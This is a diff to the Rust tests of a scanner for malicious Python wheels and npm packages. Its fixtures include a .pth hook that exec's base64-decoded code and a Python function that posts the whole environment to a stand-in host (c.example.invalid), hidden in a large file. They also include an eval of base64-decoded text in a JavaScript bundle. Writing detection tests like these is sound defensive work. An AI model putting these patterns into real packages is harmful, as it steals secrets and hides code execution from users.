@@ -266,6 +266,10 @@ fn starts_of_python_and_commands_of_npm_are_found() {
     found(&wheel_with("a.pth", "import os, base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"), "install:pth", Critical);
     found(&wheel_with("sitecustomize.py", "print('here')\n"), "install:start-hook", High);
     harmless(&wheel_with("a.pth", "./a/vendored\n"));
+    let own = &[("a.pth", "import os; os.getpid(); __import__('a_hook').add()\n"), ("a_hook.py", "x = 1\n")];
+    let severity =
+        |files: &[(&str, &str)]| gravest(&scanned("a-1.0-py3-none-any.whl", &wheel(files, |_| {})), "install:pth");
+    assert_eq!((severity(own), severity(&own[..1])), (Some(Medium), Some(High)));
     let manifest = |script: &str| {
         let text = format!(r#"{{"name": "a", "scripts": {{"preinstall": "{script}"}}}}"#);
         scanned("a-1.0.0.tgz", &tgz_of(&[("package/package.json", text.as_str())]))
@@ -309,6 +313,20 @@ fn hidden_and_unreadable_code_is_found() {
     found(&library, "file:binary", Info);
     harmless(&library);
     harmless(&wheel_with("a/__init__.py", "text = '\u{5e9}\u{5dc}\u{5d5}\u{5dd}'  # \u{2764}\u{fe0f}\n"));
+}
+
+/// What is carried in a large file is found at its place, whatever stands around it.
+#[test]
+fn a_chain_in_a_large_file_is_found_at_its_line() {
+    let filler = "def honest(a):\n    return [value for value in a if value]\n\n".repeat(4000);
+    let steal = "def go():\n    import os, requests\n    requests.post('https://c.example.invalid', json=dict(os.environ))\n\ngo()\n";
+    let report = wheel_with("a/large.py", &format!("{filler}{steal}{filler}"));
+    let finding = report.findings.iter().find(|finding| finding.rule == "code:steal").unwrap();
+    assert_eq!((finding.severity, finding.place.line), (Critical, Some(12_003)));
+    let bundle = "function honest(a){return a.filter(function(v){return !!v})};".repeat(10_000);
+    let run = "eval(Buffer.from('cHJpbnQ=', 'base64').toString());";
+    found(&npm(&format!("{bundle}{run}{bundle}")), "code:decode-run", Critical);
+    harmless(&npm(&bundle));
 }
 
 #[test]
